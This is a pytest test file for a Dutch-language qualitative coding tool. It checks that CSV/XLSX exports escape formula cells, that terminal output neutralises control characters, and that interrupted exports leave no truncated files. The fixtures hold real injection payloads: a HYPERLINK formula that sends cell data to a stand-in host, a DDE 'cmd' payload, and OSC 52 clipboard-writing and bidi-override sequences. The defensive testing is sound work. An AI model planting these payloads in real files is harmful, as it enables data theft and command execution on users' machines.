"""What the tool writes out is safe: no live formulas in CSV/XLSX, no control characters on the
terminal, and no half-written export files.

The project is hostile on purpose: code names, respondent attributes and answers start with
`=`, `+`, `-`, `@`; answers and file names carry OSC 52 clipboard writes, BEL, C1 controls and
bidi overrides. Every test uses real files and a real database (PostgreSQL too where the
database matters).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import select

from lo_codebook.core.project import Project
from lo_codebook.db.models import Code, Coding, Document, Suggestion

from .conftest import REPO, run_cli

# ----------------------------------------------------------------------------- the project

FORMULA_CODE = '=HYPERLINK("evil.example?d="&A1,"klik")'
CODEBOOK = (
    "name,parent,description,keywords\n"
    "Thema's,,Categorie,\n"
    f'"{FORMULA_CODE.replace(chr(34), chr(34) * 2)}",Thema\'s,"=cmd|\' /C calc\'!A0",=1+1;werk\n'
    "+31 bellen,Thema's,+ telefoon,\n"
    "-Werkdruk,Thema's,- druk,@thuis;-min\n"
    "@thuis,Thema's,@ home,\n"
    "Leiderschap,Thema's,leiding,leiderschap\n"
)
OSC52 = "\x1b]52;c;ZXZpbA==\x07"  # "write 'evil' to the clipboard", ended by BEL
SURVEY = (
    "id,size,antwoord\n"
    f'R1,"=2+5","=1+1 werkdruk {OSC52} en leiderschap"\n'
    'R2,+fout,"- thuiswerken \u202eesrever\u202c werkt"\n'
    'R3,@home,"@iedereen: +31 bellen \x9b31m rood"\n'
    "R4,-7,Leiderschap is belangrijk\n"
)
CODINGS = (
    "document,code\n"
    f'R1,"{FORMULA_CODE.replace(chr(34), chr(34) * 2)}"\n'
    "R1,Leiderschap\n"
    "R2,-Werkdruk\n"
    "R3,@thuis\n"
    "R3,+31 bellen\n"
    "R4,Leiderschap\n"
)
CONTROL = ("\x1b", "\x07", "\x9b", "\u202e", "\u202c")


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def build(tmp_path: Path, db: str) -> dict[str, str]:
    """The hostile project through the command line; returns the environment to use it."""
    env = {"LO_CODEBOOK_DB": db, "LO_CODEBOOK_CODER": "anna"}
    data = tmp_path / "data"
    data.mkdir(exist_ok=True)
    for args in (
        ("codebook", "import", _write(data / "codebook.csv", CODEBOOK)),
        (
            "import-survey",
            _write(data / "survey.csv", SURVEY),
            "--id-col",
            "id",
            "--text-col",
            "antwoord",
            "--attr-col",
            "size",
        ),
        ("import-codings", _write(data / "codings.csv", CODINGS), "--coder", "anna"),
    ):
        result = run_cli(*args, env=env)
        assert result.code == 0, (args, result.err)
    project = Project.open(db, "anna")
    try:
        with project.write("seed-suggestions", undoable=False) as unit:
            docs = {d.name: d for d in unit.session.scalars(select(Document))}
            codes = {c.name: c.id for c in unit.session.scalars(select(Code))}
            for doc, code in (("R1", FORMULA_CODE), ("R2", "-Werkdruk"), ("R3", "@thuis")):
                text = docs[doc].text
                unit.session.add(
                    Suggestion(
                        document_id=docs[doc].id,
                        code_id=codes[code],
                        start=0,
                        end=len(text),
                        score=90.0,
                        method="keyword",
                        evidence="keyword",
                        status="pending",
                    )
                )
    finally:
        project.close()
    return env


@pytest.fixture
def hostile(tmp_path: Path) -> dict[str, str]:
    return build(tmp_path, str(tmp_path / "studie.db"))


@pytest.fixture
def hostile_any_db(tmp_path: Path, db_url: str) -> dict[str, str]:
    return build(tmp_path, db_url)


def hidden_leftovers(folder: Path) -> list[str]:
    return sorted(
        p.name
        for p in folder.iterdir()
        if p.name.startswith(".") and p.name.endswith((".tmp", ".partial"))
    )


# ----------------------------------------------------------------------------- 3. atomic exports

# Each export: the command (OUT is the target) and the target's file name.
EXPORTS = {
    "codebook csv": (["codebook", "export", "OUT"], "codebook.csv"),
    "codebook md": (["codebook", "export", "OUT"], "codebook.md"),
    "codebook qdc": (["codebook", "export", "OUT"], "codebook.qdc"),
    "themes csv": (["themes", "--format", "csv", "-o", "OUT"], "themes.csv"),
    "themes xlsx": (["themes", "--by", "size", "--format", "xlsx", "-o", "OUT"], "themes.xlsx"),
    "themes md": (["themes", "--format", "md", "-o", "OUT"], "themes.md"),
    "themes json": (["themes", "--format", "json", "-o", "OUT"], "themes.json"),
    "themes chart": (["themes", "--chart", "OUT"], "themes.png"),
    "quotes csv": (["export-quotes", "OUT"], "quotes.csv"),
    "quotes xlsx": (["export-quotes", "OUT"], "quotes.xlsx"),
    "qdpx": (["export-qdpx", "OUT"], "project.qdpx"),
}

# Runs an export with a file size limit (RLIMIT_FSIZE) a little short of the whole export: its
# write stops there with EFBIG ("fail": a full disk), or the kernel kills the process with
# SIGXFSZ ("kill": no cleanup code runs, exactly a crash or kill -9 mid-write). The export runs
# once unlimited first, to a scratch folder: that measures the size, and puts every module,
# font cache and the project's SQLite shared-memory file in place.
LIMITED = r"""
import os, resource, signal, sys
sys.dont_write_bytecode = True
db, scratch, target, mode, *args = sys.argv[1:]
from lo_codebook.cli import main
def run(out):
    try:
        main(["--db", db, *[out if a == "OUT" else a for a in args]])
    except SystemExit as exc:
        return exc.code
from lo_codebook.core.project import Project
project = Project.open(db, "anna", create=False)
with project.read() as session:
    session.connection()  # keep a connection (and SQLite's shared memory file) open
assert run(scratch) == 0
resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
# Python starts with SIGXFSZ ignored; its default action kills the process.
signal.signal(signal.SIGXFSZ, signal.SIG_IGN if mode == "fail" else signal.SIG_DFL)
size = os.path.getsize(scratch)
limit = max(size - 64, size // 2)  # below small differences between runs (xlsx timestamps)
resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
sys.exit(run(target))
"""


def run_limited(
    env: dict[str, str], tmp_path: Path, export: str, mode: str
) -> tuple[subprocess.CompletedProcess[str], Path]:
    args, name = EXPORTS[export]
    out = tmp_path / "out"
    scratch = tmp_path / "scratch"
    out.mkdir(exist_ok=True)
    scratch.mkdir(exist_ok=True)
    target = out / name
    command = [
        sys.executable,
        "-c",
        LIMITED,
        env["LO_CODEBOOK_DB"],
        str(scratch / name),
        str(target),
        mode,
        *args,
    ]
    child_env = {**os.environ, "PYTHONPATH": str(REPO), "LO_CODEBOOK_CODER": "anna"}
    child_env.pop("LO_CODEBOOK_DB", None)
    result = subprocess.run(
        command, capture_output=True, text=True, env=child_env, timeout=120, cwd=tmp_path
    )
    return result, target


def export_once(env: dict[str, str], export: str, target: Path) -> bytes:
    args, _ = EXPORTS[export]
    result = run_cli(*[str(target) if a == "OUT" else a for a in args], env=env)
    assert result.code == 0, result.err
    return target.read_bytes()


@pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="RLIMIT_FSIZE semantics as on Linux"
)
@pytest.mark.parametrize("export", list(EXPORTS))
def test_a_failed_export_leaves_the_previous_file_whole(
    export: str, hostile: dict[str, str], tmp_path: Path
) -> None:
    """The disk fills up mid-write: exit 1 with one line, the old file exactly as it was."""
    _, name = EXPORTS[export]
    target = tmp_path / "out" / name
    target.parent.mkdir()
    before = export_once(hostile, export, target)
    result, target = run_limited(hostile, tmp_path, export, "fail")
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    assert result.stderr.strip().splitlines()[-1].startswith(f"lo-codebook: error: {target}"), (
        result.stderr
    )
    assert target.read_bytes() == before
    assert hidden_leftovers(target.parent) == []


@pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="RLIMIT_FSIZE semantics as on Linux"
)
@pytest.mark.parametrize("export", list(EXPORTS))
def test_a_killed_export_never_leaves_a_truncated_file(
    export: str, hostile: dict[str, str], tmp_path: Path
) -> None:
    """Killed mid-write (no cleanup runs): no new file at all, or the old one untouched;
    the temporary file it left is removed by the next run of that export."""
    result, target = run_limited(hostile, tmp_path, export, "kill")
    assert result.returncode == -signal.SIGXFSZ, (result.returncode, result.stderr)
    assert not target.exists(), f"{target.name}: {target.stat().st_size} bytes after a kill"
    assert len(hidden_leftovers(target.parent)) == 1  # the temporary file it was writing

    before = export_once(hostile, export, target)  # the next run: whole, and cleans up
    assert hidden_leftovers(target.parent) == []

    result, _ = run_limited(hostile, tmp_path, export, "kill")
    assert result.returncode == -signal.SIGXFSZ
    assert target.read_bytes() == before
    export_once(hostile, export, target)
    assert hidden_leftovers(target.parent) == []


def test_temporary_files_of_running_writers_are_left_alone(tmp_path: Path) -> None:
    """Only leftovers of writers that are gone are removed: a concurrent export keeps its file."""
    from lo_codebook.safe_output import atomic_path, remove_stale_temps

    target = tmp_path / "themes.csv"
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        with atomic_path(target) as mine:
            mine.write_text("half", encoding="utf-8")
            live = tmp_path / mine.name.replace(f".{os.getpid()}-", f".{sleeper.pid}-")
            live.write_text("another writer", encoding="utf-8")
            other = tmp_path / ".other.csv.1-00000000.abcdefgh.partial"
            other.write_text("another target", encoding="utf-8")
            unrelated = tmp_path / ".themes.csv.swp"
            unrelated.write_text("an editor's", encoding="utf-8")
            assert remove_stale_temps(target) == []
            assert mine.exists() and live.exists() and other.exists() and unrelated.exists()
            mine.write_text("whole", encoding="utf-8")
    finally:
        sleeper.kill()
        sleeper.wait()
    assert target.read_text(encoding="utf-8") == "whole"
    assert remove_stale_temps(target) == [live]
    assert other.exists() and unrelated.exists()


# ----------------------------------------------------------------------------- 1. formulas

# a number a spreadsheet reads as a number, exponent included ("-2e3", "-0E0": harmless)
SPREADSHEET_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def runs_as_formula(value: object) -> bool:
    """Would Excel / LibreOffice / Sheets run this cell? (text starting = + - @ tab CR that
    is not simply a number)."""
    return (
        isinstance(value, str)
        and value[:1] in ("=", "+", "-", "@", "\t", "\r")
        and not SPREADSHEET_NUMBER.fullmatch(value)
    )


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula_cells(rows: list[list[str]], what: str) -> None:
    bad = [cell for row in rows for cell in row if runs_as_formula(cell)]
    assert not bad, f"{what}: cells a spreadsheet runs: {bad}"


def test_every_csv_export_escapes_formula_cells(hostile: dict[str, str], tmp_path: Path) -> None:
    assert run_cli("names", "add", "=Evil Name", "--as", "@Alias", env=hostile).code == 0
    files = {
        "themes.csv": ["themes", "--by", "size", "--format", "csv", "-o"],
        "quotes.csv": ["export-quotes"],
        "codebook.csv": ["codebook", "export"],
    }
    outputs: dict[str, str] = {}
    for name, args in files.items():
        result = run_cli(*args, tmp_path / name, env=hostile)
        assert result.code == 0, (name, result.err)
        outputs[name] = (tmp_path / name).read_text(encoding="utf-8")
    for name, args in {
        "themes stdout": ["themes", "--format", "csv"],
        "suggestions": ["suggestions"],  # csv is the default format
        "names list": ["names", "list", "--format", "csv"],
        "cooccurrence": ["cooccurrence", "--format", "csv"],
    }.items():
        result = run_cli(*args, env=hostile)
        assert result.code == 0, (name, result.err)
        outputs[name] = result.out
    for name, text in outputs.items():
        assert_no_formula_cells(csv_cells(text), name)

    themes = list(csv.DictReader(io.StringIO(outputs["themes.csv"])))
    by_code = {row["Thema"]: row for row in themes}  # headers in the (Dutch) project's language
    assert set(by_code) == {
        "'" + FORMULA_CODE,
        "Leiderschap",
        "'-Werkdruk",
        "'@thuis",
        "'+31 bellen",
    }
    assert (
        by_code["Leiderschap"]["Documenten"] == "2"
        and float(by_code["Leiderschap"]["Aandeel"]) == 0.5
    )
    assert by_code["'" + FORMULA_CODE]["size==2+5"] == "1"  # the header starts with the attribute
    assert by_code["'" + FORMULA_CODE]["size=-7"] == "0"
    suggestions = list(csv.DictReader(io.StringIO(outputs["suggestions"])))
    assert {r["code"] for r in suggestions} == {"'" + FORMULA_CODE, "'-Werkdruk", "'@thuis"}
    assert any(r["text"].startswith("'=1+1 werkdruk") for r in suggestions)
    assert csv_cells(outputs["names list"])[1] == ["'=Evil Name", "'@Alias"]
    quotes = list(csv.DictReader(io.StringIO(outputs["quotes.csv"])))
    assert {q["text"][:2] for q in quotes} >= {"'=", "'-", "'@"}


def test_xlsx_exports_hold_no_formula(hostile: dict[str, str], tmp_path: Path) -> None:
    import openpyxl

    for args, name in (
        (["themes", "--by", "size", "--format", "xlsx", "-o"], "themes.xlsx"),
        (["export-quotes"], "quotes.xlsx"),
    ):
        result = run_cli(*args, tmp_path / name, env=hostile)
        assert result.code == 0, result.err
        book = openpyxl.load_workbook(tmp_path / name)
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], f"{name}: formula cells"
        assert not [c.value for c in cells if runs_as_formula(c.value)], name
        values = [c.value for c in cells]
        if name == "themes.xlsx":
            sheet = book.worksheets[0]
            header = [c.value for c in sheet[1]]
            assert "'=2+5 (n=1)" in header and "'+fout (n=1)" in header and "'@home (n=1)" in header
            assert "'-7 (n=1)" in header
            codes = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
            assert "'" + FORMULA_CODE in codes
            documents = codes["'" + FORMULA_CODE][2].value
            assert isinstance(documents, int) and documents == 1  # numbers stay numbers
        else:
            assert "'" + FORMULA_CODE in values and "'-Werkdruk" in values
        book.close()


def test_codebook_csv_round_trip_keeps_formula_like_names(
    hostile_any_db: dict[str, str], tmp_path: Path
) -> None:
    """Export escapes, import takes exactly that escape off: the same codebook comes back,
    also for names that really start with a quote."""
    from lo_codebook.core import codebook

    project = Project.open(hostile_any_db["LO_CODEBOOK_DB"], "anna")
    try:
        codebook.create_code(project, "'=al gequote", parent="Thema's", keywords=["'+x", "-y"])
        codebook.create_code(project, "''@dubbel", parent="Thema's", description="'=beschrijving")
        codebook.create_code(project, "-3", parent="Thema's")
        with project.read() as session:
            before = codebook.codebook_rows(session)
    finally:
        project.close()
    out = tmp_path / "export.csv"
    assert run_cli("codebook", "export", out, env=hostile_any_db).code == 0
    rows = csv_cells(out.read_text(encoding="utf-8"))
    assert_no_formula_cells(rows, "codebook export")
    names = [row[0] for row in rows[1:]]
    assert "'" + FORMULA_CODE in names and "''=al gequote" in names and "'''@dubbel" in names
    assert "-3" in names  # a number, not a formula: left alone

    fresh = {"LO_CODEBOOK_DB": str(tmp_path / "fresh.db"), "LO_CODEBOOK_CODER": "bram"}
    result = run_cli("codebook", "import", out, env=fresh)
    assert result.code == 0, result.err
    project = Project.open(fresh["LO_CODEBOOK_DB"], "bram")
    try:
        with project.read() as session:
            after = codebook.codebook_rows(session)
    finally:
        project.close()
    strip = [(r.name, r.parent, r.description, r.keywords) for r in before]
    assert [(r.name, r.parent, r.description, r.keywords) for r in after] == strip


def test_an_exported_suggestions_csv_imports_as_codings(
    hostile: dict[str, str], tmp_path: Path
) -> None:
    """`suggestions --format csv` escapes code names; import-codings reads them back."""
    result = run_cli("suggestions", env=hostile)
    out = tmp_path / "review.csv"
    out.write_text(result.out, encoding="utf-8")
    result = run_cli(
        "import-codings", out, "--coder", "bram", env={**hostile, "LO_CODEBOOK_LANG": "en"}
    )
    assert result.code == 0, result.err
    assert "3 codings" in result.out


def test_safe_cell_escapes_exactly_what_runs_and_round_trips() -> None:
    from hypothesis import given
    from hypothesis import strategies as st

    from lo_codebook.safe_output import safe_cell, unescape_cell

    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("\tx") == "'\tx" and safe_cell("\r=x") == "'\r=x" and safe_cell("+") == "'+"
    assert safe_cell("- ja, dat klopt") == "'- ja, dat klopt"
    assert safe_cell("'=x") == "''=x" and unescape_cell("''=x") == "'=x"
    assert safe_cell("'quote") == "'quote" and unescape_cell("'quote") == "'quote"
    for number in (-3, -0.5, 12, 1.5, None):
        assert safe_cell(number) == number  # numbers stay numbers
    for text in ("-3", "+31", "-0,5", "-1.25", "-2e3", "-0E0", "Leiderschap", "", "a=b"):
        assert safe_cell(text) == text

    @given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r 0123456789.,eE ab")), max_size=8))
    def inverse(text: str) -> None:
        escaped = safe_cell(text)
        assert unescape_cell(escaped) == text
        assert not runs_as_formula(escaped) or SPREADSHEET_NUMBER.fullmatch(escaped)

    inverse()


# ----------------------------------------------------------------------------- 2. terminals

EVIL_FILE = f"gesprek{OSC52}\u202eevil"  # a file name that writes the clipboard and flips text
EVIL_CODE = f"Werk{OSC52}\u202edruk\x9b2J"  # as an older version or another tool could store it
TRANSCRIPT = f"Interviewer: Hoe gaat het?\n\nRespondent: Goed{OSC52}. Echt\u202e waar\x07.\n"


def add_evil_names(env: dict[str, str], tmp_path: Path) -> None:
    """A transcript whose file name and text carry control characters, and a code with one in
    its name stored directly (names are refused now, but older projects may hold them)."""
    path = tmp_path / "data" / f"{EVIL_FILE}.txt"
    path.write_text(TRANSCRIPT, encoding="utf-8")
    result = run_cli("import", path, "--case", "Gemeente Evil", env=env)
    assert result.code == 0, result.err
    project = Project.open(env["LO_CODEBOOK_DB"], "anna")
    try:
        with project.write("legacy-code", undoable=False) as unit:
            parent = unit.session.scalars(select(Code).where(Code.name == "Thema's")).one()
            code = Code(
                name=EVIL_CODE,
                parent=parent,
                description=f"beschrijving{OSC52}",
                keywords=[],
                color="#e6194b",
            )
            unit.session.add(code)
            unit.session.flush()
            doc = unit.session.scalars(select(Document).where(Document.name == EVIL_FILE)).one()
            unit.session.add(
                Suggestion(
                    document_id=doc.id,
                    code_id=code.id,
                    start=0,
                    end=len(doc.text),
                    score=99.0,
                    method="keyword",
                    evidence=f"keyword {OSC52}",
                    status="pending",
                )
            )
            unit.session.add(
                Coding(document_id=doc.id, code_id=code.id, coder_id=unit.coder.id, start=0, end=10)
            )
    finally:
        project.close()


def assert_no_control(text: str, what: str) -> None:
    found = sorted(
        {f"U+{ord(ch):04X}" for ch in text if ch in CONTROL or (ord(ch) < 32 and ch not in "\n\t")}
    )
    assert not found, f"{what}: control characters reach the terminal: {found}\n{text[:600]!r}"


def test_cli_output_never_sends_control_characters(hostile: dict[str, str], tmp_path: Path) -> None:
    add_evil_names(hostile, tmp_path)
    commands = [
        ["documents"],
        ["suggestions"],  # csv
        ["suggestions", "--format", "table"],
        ["suggestions", "--format", "csv", "--status", "all"],
        ["themes"],
        ["themes", "--format", "md"],
        ["themes", "--format", "csv", "--by", "size"],
        ["status"],
        ["log"],
        ["cooccurrence"],
        ["export-quotes", str(tmp_path / "q.md")],
        ["import", str(tmp_path / f"ontbreekt{OSC52}.txt")],  # an error naming the file
        ["codebook", "export", str(tmp_path / f"nergens{OSC52}" / "x.csv")],
    ]
    for args in commands:
        result = run_cli(*args, env=hostile)
        assert result.code in (0, 1), (args, result.err)
        assert_no_control(result.out, " ".join(args))
        assert_no_control(result.err, " ".join(args) + " (stderr)")
    listing = run_cli("documents", env=hostile).out
    assert "gesprek␛]52;c;ZXZpbA==␇\ufffdevil" in listing  # visible, one symbol per character
    table = run_cli("suggestions", "--format", "table", env=hostile).out
    assert "Werk␛]52;c;ZXZpbA==␇\ufffddruk\ufffd2J" in table


def test_json_output_stays_exact(hostile: dict[str, str], tmp_path: Path) -> None:
    add_evil_names(hostile, tmp_path)
    result = run_cli("documents", "--format", "json", env=hostile)
    assert result.code == 0, result.err
    assert_no_control(result.out, "documents --format json")  # JSON escapes every one of them
    docs = {d["name"]: d for d in json.loads(result.out)}
    assert (
        docs[EVIL_FILE]["text"] == TRANSCRIPT.rstrip("\n") or docs[EVIL_FILE]["text"] == TRANSCRIPT
    )
    assert any("\x9b31m" in d["text"] for d in docs.values())
    result = run_cli("suggestions", "--format", "json", env=hostile)
    assert_no_control(result.out, "suggestions --format json")
    assert EVIL_CODE in {s["code"] for s in json.loads(result.out)}
    result = run_cli("themes", "--format", "json", env=hostile)
    assert_no_control(result.out, "themes --format json")
    assert EVIL_CODE in {t["code"] for t in json.loads(result.out)}


def one_line_error(result, *needles: str) -> None:  # type: ignore[no-untyped-def]
    assert result.code == 1, (result.out, result.err)
    lines = result.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("lo-codebook: error: "), result.err
    assert_no_control(result.err, "error")
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])


def test_names_with_control_characters_are_refused(hostile: dict[str, str], tmp_path: Path) -> None:
    db = Path(hostile["LO_CODEBOOK_DB"])
    before = run_cli("status", "--format", "json", env=hostile).out
    data = tmp_path / "bad"
    data.mkdir()
    codes = _write(
        data / "codes.csv", "name,parent,description,keywords\nGoed,,,\nWerk\x1b[2Jdruk,,,\n"
    )
    one_line_error(
        run_cli("codebook", "import", codes, env=hostile),
        "codes.csv, line 3",
        "code name",
        "U+001B",
    )
    codings = _write(data / "codings.csv", "document,code\nR1,Nieuw\u202ecode\n")
    one_line_error(
        run_cli("import-codings", codings, "--coder", "bram", "--create-codes", env=hostile),
        "codings.csv, line 2",
        "U+202E",
    )
    one_line_error(
        run_cli(
            "import-codings",
            _write(data / "ok.csv", "document,code\nR1,Leiderschap\n"),
            "--coder",
            "bram\x07",
            env=hostile,
        ),
        "coder name",
        "U+0007",
    )
    one_line_error(
        run_cli(
            "--coder",
            "eva\x9b",
            "codebook",
            "import",
            _write(data / "fine.csv", "name\nPrima\n"),
            env=hostile,
        ),
        "coder name",
    )
    text = _write(data / "gesprek.txt", TRANSCRIPT)
    one_line_error(
        run_cli("import", text, "--case", "Gemeente\u202eX", env=hostile), "--case", "case name"
    )
    evil = _write(data / f"{EVIL_FILE}.txt", TRANSCRIPT)
    one_line_error(run_cli("import", evil, env=hostile), "rename the file or give --case")
    survey = _write(data / "survey.csv", "id,antwoord\nR9\x1b,hallo\n")
    one_line_error(
        run_cli("import-survey", survey, "--id-col", "id", "--text-col", "antwoord", env=hostile),
        "survey.csv",
        "respondent id",
    )
    one_line_error(run_cli("names", "add", "Jan\x1b]52;c;eA==\x07", env=hostile), "U+001B")
    assert run_cli("status", "--format", "json", env=hostile).out == before  # nothing changed
    assert db.exists()
    # The same names without the control characters are fine.
    assert run_cli("import", text, "--case", "Gemeente X", env=hostile).code == 0


def test_core_refuses_control_characters_in_code_names(project: Project) -> None:
    from lo_codebook.core import codebook
    from lo_codebook.errors import UserError

    code_id = codebook.create_code(project, "Leiderschap")
    for bad in ("Werk\x1bdruk", "Werk\u202edruk", "Werk\x85\x9bdruk", "Werk\x7fdruk", "A\u2066B"):
        with pytest.raises(UserError, match="control character"):
            codebook.create_code(project, bad)
        with pytest.raises(UserError, match="control character"):
            codebook.rename_code(project, code_id, bad)
    with project.read() as session:
        assert [c.name for c in session.scalars(select(Code))] == ["Leiderschap"]
    bad_coder = Project.open(project.url, "piet\x1b")
    try:
        with pytest.raises(UserError, match="coder name"):
            codebook.create_code(bad_coder, "Vitaliteit")
    finally:
        bad_coder.close()


def test_printable_neutralises_every_control_character_and_keeps_offsets() -> None:
    from lo_codebook.safe_output import printable

    every = (
        "".join(chr(c) for c in range(0x20)) + "\x7f" + "".join(chr(c) for c in range(0x80, 0xA0))
    )
    every += "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    shown = printable(every)
    assert len(shown) == len(every)
    assert [
        ch for ch in shown if ch not in "\n\t" and (not ch.isprintable() or ch in CONTROL)
    ] == []
    assert "\n" in shown and "\t" in shown
    flat = printable(every, newlines=False)
    assert "\n" not in flat and "\t" not in flat and len(flat) == len(every)
    assert printable("Één café 😀 · ‘quote’") == "Één café 😀 · ‘quote’"
    assert printable("a\x1b[2Jb") == "a␛[2Jb"


@pytest.mark.skipif(os.name == "nt", reason="POSIX permissions")
def test_exports_get_the_usual_permissions(hostile: dict[str, str], tmp_path: Path) -> None:
    """Written through a private temporary file, an export still ends up as readable as any
    file the user writes, and re-exporting keeps the permissions the user gave the file."""
    umask = os.umask(0o022)
    os.umask(umask)
    fresh = tmp_path / "codebook.csv"
    assert run_cli("codebook", "export", fresh, env=hostile).code == 0
    assert fresh.stat().st_mode & 0o777 == 0o666 & ~umask
    fresh.chmod(0o640)
    assert run_cli("codebook", "export", fresh, env=hostile).code == 0
    assert fresh.stat().st_mode & 0o777 == 0o640
